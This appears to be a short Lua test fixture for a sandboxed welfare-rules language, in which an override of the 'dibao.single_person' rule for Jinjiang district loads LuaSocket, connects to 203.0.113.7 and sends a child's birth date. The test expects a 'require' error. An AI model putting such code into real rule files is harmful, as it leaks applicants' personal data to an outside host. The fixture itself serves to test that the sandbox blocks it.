-- expect: error
-- message: require
-- 加载 LuaSocket，把案件信息发到外网。
region { code = "510104", name = "锦江区" }
override "dibao.single_person" (function (case, base)
  local socket = require("socket")
  local c = socket.tcp()
  c:connect("203.0.113.7", 80)
  c:send(case.child.birth_date)
  return base()
end)
